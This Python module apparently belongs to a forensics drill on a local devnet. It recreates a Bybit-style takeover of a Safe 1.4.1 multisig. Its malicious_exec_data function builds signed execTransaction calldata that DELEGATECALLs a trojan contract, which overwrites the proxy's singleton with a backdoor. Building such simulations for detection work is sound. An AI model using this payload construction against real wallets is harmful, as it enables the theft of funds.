"""The victim's cold wallet, a real Safe 1.4.1 (npm build), and its Bybit-style takeover: the signers
sign a Safe transaction that DELEGATECALLs the thief's trojan, which overwrites the singleton."""

from __future__ import annotations

from typing import Any

from eth_abi import encode
from eth_keys import keys
from eth_utils import keccak

from hotpursuit.drill.devnet.contracts import create2_address, load_artifact
from hotpursuit.ingest.rpc_client import JsonRpcClient

SAFE = load_artifact("Safe")
PROXY_FACTORY = load_artifact("SafeProxyFactory")
PROXY = load_artifact("SafeProxy")
TROJAN = load_artifact("SafeTrojan")
BACKDOOR = load_artifact("SafeBackdoor")
ZERO = "0x" + "00" * 20
DELEGATECALL = 1
SALT_NONCE = 0
THRESHOLD = 2


def safe_initializer(owners: list[str]) -> str:
    """`Safe.setup(owners, threshold, ...)` calldata: no modules, no fallback handler, no payment."""
    return SAFE.call_data("setup", owners, THRESHOLD, ZERO, b"", ZERO, ZERO, 0, ZERO)


def safe_address(factory: str, singleton: str, owners: list[str]) -> str:
    """The proxy `createProxyWithNonce(singleton, initializer, 0)` deploys (CREATE2)."""
    init = bytes.fromhex(safe_initializer(owners)[2:])
    salt = keccak(keccak(init) + encode(["uint256"], [SALT_NONCE]))
    code = bytes.fromhex(PROXY.bytecode[2:]) + encode(["uint256"], [int(singleton, 16)])
    return create2_address(factory, salt, code)


def create_safe_data(singleton: str, owners: list[str]) -> str:
    """Calldata of the factory call that deploys and sets up the victim's Safe."""
    return PROXY_FACTORY.call_data("createProxyWithNonce", singleton, bytes.fromhex(safe_initializer(owners)[2:]),
                                   SALT_NONCE)


def malicious_exec_data(client: JsonRpcClient, safe: str, trojan: str, backdoor: str,
                        signer_keys: dict[str, bytes]) -> str:
    """`execTransaction` calldata the signers were tricked into signing: DELEGATECALL to the trojan's
    `transfer(backdoor, 0)` (which writes slot 0). Signed by each owner over the Safe's own EIP-712
    hash (read with `getTransactionHash` at the Safe's current nonce), signatures sorted by owner."""
    inner = bytes.fromhex(TROJAN.call_data("transfer", backdoor, 0)[2:])
    nonce = int(client.call("eth_call", [{"to": safe, "data": SAFE.call_data("nonce")}, "latest"]), 16)
    args: list[Any] = [trojan, 0, inner, DELEGATECALL, 0, 0, 0, ZERO, ZERO]
    reply = client.call("eth_call", [{"to": safe, "data": SAFE.call_data("getTransactionHash", *args, nonce)},
                                     "latest"])
    digest = bytes.fromhex(str(reply)[2:])
    signatures = b""
    for owner in sorted(signer_keys, key=lambda a: int(a, 16))[:THRESHOLD]:
        sig = keys.PrivateKey(signer_keys[owner]).sign_msg_hash(digest)
        signatures += sig.r.to_bytes(32, "big") + sig.s.to_bytes(32, "big") + bytes([sig.v + 27])
    return SAFE.call_data("execTransaction", *args, signatures)


def singleton_of(client: JsonRpcClient, safe: str, block: int | str = "latest") -> str:
    """The address in the proxy's storage slot 0 (its singleton, `masterCopy`)."""
    tag = hex(block) if isinstance(block, int) else block
    word = str(client.call("eth_getStorageAt", [safe, "0x0", tag]))
    return "0x" + word[-40:].lower()
